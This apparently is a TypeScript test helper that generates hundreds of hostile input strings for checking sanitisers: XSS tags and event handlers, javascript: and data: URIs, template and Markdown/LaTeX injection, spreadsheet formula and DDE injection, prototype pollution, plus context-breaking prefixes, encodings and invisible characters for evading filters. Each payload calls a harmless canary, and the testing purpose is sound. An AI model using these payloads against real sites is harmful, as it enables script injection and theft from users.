/** What a hostile text calls when it runs; the short name fits where a name has twenty letters. */
export const CANARY = '__canary'
export const SHORT_CANARY = '$X'

type Shape = (call: string) => string

/** Mark-up that runs by itself, or once it is touched. */
const MARKUP: readonly Shape[] = [
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<img src onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img/src/onerror=${call}//`,
  (call) => `<style onload=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<audio src onerror=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<iframe onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src=javascript:parent.${call}>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<p style=animation:x onanimationstart=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href=javascript:${call}><text y=9>点`,
  (call) => `<svg><script>${call}</script>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg onload=${call}>#x">`,
  (call) => `<math><mi href=javascript:${call}>点`,
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>点`,
  (call) => `<form action=javascript:${call}><button>点`,
  (call) => `<button formaction=javascript:${call} form=f>点`,
  (call) => `<a href=javascript:${call}>点`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{x:${call}}">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<!--><img src onerror=${call}>-->`,
  (call) => `<![CDATA[><img src onerror=${call}>]]>`,
  (call) => `<xmp><p title="</xmp><svg onload=${call}>">`,
  (call) => `<div contenteditable autofocus onfocus=${call}>`,
]

/** What else runs a text: addresses, templates, Markdown, formulas, spreadsheets. */
const OTHER: readonly Shape[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:image/svg+xml,<svg onload=${call}>`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `\`\${${call}}\``,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `';${call}//`,
  (call) => `";${call}//`,
  (call) => `\\";${call}//`,
  (call) => `*/${call}/*`,
  (call) => `\\u003csvg onload=${call}\\u003e`,
  (call) => `\\x3csvg onload=${call}\\x3e`,
  (call) => `+ADw-svg onload=${call}+AD4-`,
  (call) => `[点](javascript:${call})`,
  (call) => `![图](x"onerror="${call})`,
  (call) => `[a]: javascript:${call}`,
  (call) => `<javascript:${call}>`,
  (call) => `[点](data:text/html,<script>${call}</script>)`,
  (call) => `$\\href{javascript:${call}}{x}$`,
  (call) => `$\\url{javascript:${call}}$`,
  (call) => `$\\htmlData{x=1 onclick=${call}}{x}$`,
  (call) => `$\\includegraphics{javascript:${call}}$`,
  (call) => `$\\text{<svg onload=${call}>}$`,
  (call) => `$$\\unicode{<img src onerror=${call}>}$$`,
  (call) => `=HYPERLINK("javascript:${call}","点")`,
  (call) => `=cmd|'/C ${call}'!A0`,
  (call) => `@SUM(1)*${call}`,
  (call) => `+1+${call}`,
  (call) => `-1-${call}`,
  (call) => `__proto__[${call}]`,
]

/** What closes the place a text may have been put into. */
const BREAKS: readonly string[] = [
  ...['', '">', "'>", '>', '-->', ']]>', '</p>', '</title>', '</textarea>', '</script>', '</style>'],
  ...['</select>', '</svg>', '</option>', '&quot;>', "x' y='", '" x="', '\\">', '/*', '{{', '}}', '`', ')'],
]

const HIDDEN = ['\u200b', '\u200d', '\ufeff', '\u202e', '\u2066', '\u0301', '\u0085', '\u2028']
const FIRST_LETTERS = /[<>"']/g

/** How the same text is written otherwise. */
const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<[a-z]+/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(FIRST_LETTERS, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(FIRST_LETTERS, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => text.replace(FIRST_LETTERS, (sign) => encodeURIComponent(sign)),
  (text) => text.replace(/ /g, '\u000c'),
  (text) => text.replace(/ /g, '/'),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
  (text) => text.replace(/<(?=[a-z])/g, '<<'),
  (text) => `😀${text}`,
  (text) => `${text}👩‍👩‍👧‍👦`,
  ...HIDDEN.map((sign) => (text: string) => `${sign}${text}`),
  ...HIDDEN.map((sign) => (text: string) => text.replace(/=/, `${sign}=`)),
  (text) => `${'长'.repeat(150)}${text}`,
]

const SHORT_TAGS = ['a', 'b', 'p', 'q', 'hr', 'li', 'td', 'img', 'svg', 'div', 'nav', 'sub']
const SHORT_EVENTS = ['cut', 'drag', 'load', 'blur', 'copy', 'click', 'focus', 'wheel', 'input', 'error']

/** Every tag with every event, as short as they can be. */
const SHORTEST: readonly string[] = SHORT_TAGS.flatMap((tag) =>
  SHORT_EVENTS.map((event) => `<${tag} on${event}=${SHORT_CANARY}()>`),
)

/** Each shape in each writing after each break: the kinds first, so that any number of them holds every kind. */
function* everyText(): Generator<string> {
  const shapes = [...MARKUP, ...OTHER]
  const calls = [`${CANARY}()`, `${SHORT_CANARY}()`]
  for (const call of calls) for (const shape of shapes) yield shape(call)
  yield* SHORTEST
  for (let turn = 0; turn < WRITINGS.length * BREAKS.length; turn += 1) {
    for (const [at, shape] of shapes.entries()) {
      // Each shape goes through breaks and writings at its own pace: a product of all would be ten thousands.
      const before = BREAKS[(turn + at) % BREAKS.length] ?? ''
      const write = WRITINGS[(turn * 7 + at) % WRITINGS.length]
      const call = calls[turn % 2] ?? ''
      if (write !== undefined) yield write(before + shape(call))
    }
  }
}

/** What a name may lose on its way; texts that differ in nothing else are the same name. */
const UNSEEN = /[\p{Cc}\p{Cf}\s/\\]/gu

/** That many different hostile texts of at most `longest` letters, each with a call of the canary; always the same ones. */
export function hostileTexts({ count, longest }: { count: number; longest: number }): string[] {
  const found = new Map<string, string>()
  for (const text of everyText()) {
    const typed = text.trim()
    const key = typed.replace(UNSEEN, '').normalize('NFKC').toLowerCase()
    if (typed.length <= longest && !found.has(key)) found.set(key, typed)
    if (found.size === count) return [...found.values()]
  }
  throw new Error(`only ${found.size} hostile texts of ${longest} letters`)
}
